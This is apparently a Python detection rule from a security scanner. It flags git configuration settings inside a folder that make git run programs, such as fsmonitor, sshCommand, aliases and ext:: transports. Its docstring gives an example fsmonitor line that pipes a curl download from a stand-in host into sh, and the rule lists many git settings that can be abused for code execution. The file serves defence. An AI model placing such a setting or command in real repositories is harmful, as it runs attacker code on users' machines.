"""What it sees
    Settings of a git configuration inside the folder by which git runs programs: `core.fsmonitor`, `core.sshCommand`,
    `core.pager`, `core.editor`, `core.hooksPath`, filters, aliases with `!`, `diff.external`, `credential.helper`,
    `include.path`, `init.templateDir`, submodule `update = !...` and `ext::` transports.

Why it matters
    Git reads `.git/config` of the folder that it is called in, also when an editor or a shell prompt calls it. A ZIP
    with a `.git` folder carries such a file; a clone never does.

Example
    [core]
        fsmonitor = "sh -c 'curl -s https://a.test/x | sh'"

What to do
    Run no git command in the folder and do not open it in an editor that shows git status.

False alarms
    `filter.lfs` with `git-lfs`, `core.hooksPath = .husky` and pagers such as `delta` are known: only context.

References
    git-config(1); ATT&CK T1546, T1059.004; CVE-2022-24765 for the idea behind `safe.directory`.
"""

import re
from collections.abc import Iterator

from lazaretto.detect.commands import start_signals, uninvited
from lazaretto.detect.project import normal
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity, Signal
from lazaretto.model.text import N_
from lazaretto.parse.gitfiles import HOOKS, GitConfig, Setting
from lazaretto.parse.shell import analyse

_AT_ONCE = frozenset(
    {
        ("core", "fsmonitor"),
        ("core", "alternaterefscommand"),
        ("core", "gitproxy"),
        ("core", "sshcommand"),
        ("diff", "external"),
        ("interactive", "difffilter"),
        ("uploadpack", "packobjectshook"),
        ("gpg", "program"),
        ("core", "askpass"),
    }
)
_WHEN_USED = frozenset(
    {
        ("core", "pager"),
        ("core", "editor"),
        ("sequence", "editor"),
        ("web", "browser"),
        ("credential", "helper"),
        ("diff", "textconv"),
        ("diff", "command"),
        ("merge", "driver"),
        ("filter", "clean"),
        ("filter", "smudge"),
        ("filter", "process"),
        ("difftool", "cmd"),
        ("mergetool", "cmd"),
        ("trailer", "command"),
        ("trailer", "cmd"),
        ("browser", "cmd"),
        ("man", "cmd"),
        ("remote", "vcs"),
        ("remote", "uploadpack"),
        ("remote", "receivepack"),
        ("sendemail", "smtpserver"),
        ("pager", "log"),
        ("pager", "status"),
        ("pager", "diff"),
    }
)
_KNOWN = re.compile(
    r"(?:git[- ]lfs|git-crypt|git-annex|nbstripout|nbdime|less|more|cat|delta|diff-so-fancy|vim?|nvim|"
    r"nano|emacs|code|subl|true|false|osxkeychain|manager|manager-core|store|cache|libsecret|wincred|gh|glab|gpg2?|gopass|pass|jupytext|"
    r"rs-git-fsmonitor|watchman|ssh|git|difft|exiftool|hexdump|meld|kdiff3|opendiff|vimdiff|"
    r"textutil|sops|age|transcrypt|python -m nbstripout)\b",
    re.IGNORECASE,
)
_HOOK_FOLDERS = re.compile(
    r"(?:^|/)(?:\.husky(?:/_)?|\.githooks|\.git-hooks|git-hooks|githooks|\.hooks|hooks|\.lefthook|\.git/hooks|/dev/null|scripts/.{0,40}hooks?|\.config/git/hooks|tools/.{0,40}hooks?)/?$"
)


def check(view: GitConfig) -> Iterator[Match | Signal]:
    """Judge each setting that names a program."""
    for setting in view.settings:
        match = _judge(setting)
        if match is not None:
            yield match
        yield from _starts(view, setting)


def _starts(view: GitConfig, setting: Setting) -> Iterator[Signal]:
    """Tell which files of the folder git would start: those of the hook folder, and what a command at once runs."""
    root = view.path.rpartition("/")[0]
    root = root.rpartition("/")[0] if root.rpartition("/")[2].startswith(".git") else root
    name, value = (setting.section, setting.key), setting.value
    if name == ("core", "hookspath") and value and not value.startswith(("/", "~")):
        folder = normal(f"{root}/{value}")
        for hook in sorted(HOOKS):
            yield Signal("start", f"open\t{folder}/{hook}", view.path, setting.line)
    elif name in _AT_ONCE and value:
        yield from start_signals(analyse(value), Phase.OPEN, view.path, root, setting.line)


def _judge(setting: Setting) -> Match | None:
    section, key, value = setting.section, setting.key, setting.value
    if not value:
        return None
    if section == "submodule" and key == "update" and value.startswith("!"):
        return _command(setting, value[1:], certain=True)
    if section in {"submodule", "remote", "url"} and (key in {"url", "pushurl", "insteadof"}):
        return _transport(setting, setting.subsection if section == "url" else value)
    if section == "alias":
        return _command(setting, value[1:], certain=False) if value.startswith("!") else None
    if (section, key) == ("core", "hookspath"):
        known = _HOOK_FOLDERS.search(value) is not None
        return _match(
            setting, Severity.LOW if known else Severity.MEDIUM, Confidence.LOW if known else Confidence.MEDIUM
        )
    if (section, key) in {
        ("include", "path"),
        ("includeif", "path"),
        ("init", "templatedir"),
        ("core", "attributesfile"),
    }:
        inside = not value.startswith(("/", "~", "C:", "c:"))
        return _match(
            setting, Severity.MEDIUM if inside else Severity.LOW, Confidence.MEDIUM if inside else Confidence.LOW
        )
    if (section, key) in _AT_ONCE:
        return None if value.lower() in {"true", "false", "1", "0"} else _command(setting, value, certain=True)
    if (section, key) in _WHEN_USED:
        return _command(setting, value.removeprefix("!"), certain=value.startswith("!") and section == "credential")
    return None


def _transport(setting: Setting, url: str) -> Match | None:
    if url.startswith(("ext::", "-")) or "--upload-pack" in url:
        return _match(setting, Severity.HIGH, Confidence.HIGH)
    return None


def _command(setting: Setting, text: str, *, certain: bool) -> Match | None:
    danger = uninvited(analyse(text))
    if danger is not None:
        return danger.match(setting.name, setting.line, text)
    program = text.strip().rsplit("/", 1)[-1] if text.strip().startswith(("/", "~")) else text.strip()
    if _KNOWN.match(program) and "proxycommand" not in text.lower():
        return None
    return _match(
        setting, Severity.MEDIUM if certain else Severity.LOW, Confidence.MEDIUM if certain else Confidence.LOW
    )


def _match(setting: Setting, severity: Severity, confidence: Confidence) -> Match:
    return Match(
        N_("git would use {setting} from the folder's own configuration: {value}"),
        line=setting.line,
        params={"setting": setting.name, "value": setting.value[:120]},
        excerpt=f"{setting.key} = {setting.value}",
        severity=severity,
        confidence=confidence,
    )


RULE = Rule(
    id="repo/git-config-runs-program",
    title=N_("The folder's git configuration runs a program"),
    view=GitConfig,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    phase=Phase.OPEN,
    role=Role.TRIGGER,
    check=check,
    doc=__doc__,
    techniques=("T1546", "T1059.004"),
)
